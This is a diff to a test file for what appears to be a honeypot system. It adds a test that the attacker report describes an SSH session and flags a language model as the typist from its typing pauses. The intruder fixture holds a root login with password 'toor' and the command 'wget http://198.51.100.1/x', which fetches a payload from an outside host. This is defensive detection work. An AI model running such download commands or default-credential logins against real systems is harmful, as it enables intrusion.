@@ -10,10 +10,15 @@ from tests.decnet.command_result import Run
 
 from decnet.fleet.deployment import Deployment, transaction
 from decnet_core.events.catalogue import CommandRun, LoginAttempt, SessionClosed, SessionOpened
+from decnet_core.events.typing_digest import TypingDigest
 from decnet_core.runtime.worker import NoSettings
 from decnet_models.events.queries import events_after
 from decnet_models.following.cursor_worker import EventBatch
+from decnet_models.intel.queries import Finding, keep
 from decnet_workers.profiler.worker import Profiler
+
+TYPING = TypingDigest(pasted=6, lines=6, pauses=(0, 0, 0, 0, 0, 0, 0, 0, 1, 2, 2))
+"""Whole lines after pauses of one to eight seconds."""
 
 
 @pytest.fixture
@@ -23,7 +28,7 @@ def _intruder(deployment: Deployment, store: Callable[..., None]) -> None:
         LoginAttempt(service="ssh", username="root", password="toor", success=True),
         SessionOpened(service="ssh", username="root"),
         CommandRun(service="ssh", command="wget http://198.51.100.1/x"),
-        SessionClosed(service="ssh", duration_ms=4200, commands=1, recording="ab" * 32),
+        SessionClosed(service="ssh", duration_ms=4200, commands=1, recording="ab" * 32, typing=TYPING),
     )
     with transaction(deployment, write=True) as connection:
         Profiler(NoSettings()).handle(EventBatch(connection, events_after(connection, 0, 100)))
@@ -67,3 +72,17 @@ def test_an_invalid_address_is_reported(run: Run, deployment: Deployment) -> Non
 
 def test_the_list_of_no_attackers_says_so(run: Run, deployment: Deployment) -> None:
     assert run("attackers").out == "nobody yet\n"
+
+
+@pytest.mark.usefixtures("_intruder")
+def test_attacker_page_tells_the_session_and_who_typed(run: Run, deployment: Deployment) -> None:
+    with transaction(deployment, write=True) as connection:
+        found = Finding("192.0.2.7", "mmdb", "unknown", (), {"country": "DE", "asn": 60729}, 1, 2)
+        keep(connection, [found])
+    said = run("attacker", "192.0.2.7")
+    assert "A language model was on web-01 over ssh as root for 4 s, entered 1 command" in said.out
+    assert "fetched files (wget)" in said.out
+    assert "6 lines, each sent whole after a pause of about 3 s" in said.out
+    assert "country DE, asn 60729" in said.out
+    (story,) = run("attacker", "192.0.2.7", "--json").document["stories"]
+    assert (story["session"], story["typist"]["name"]) == ("session-1", "language model")
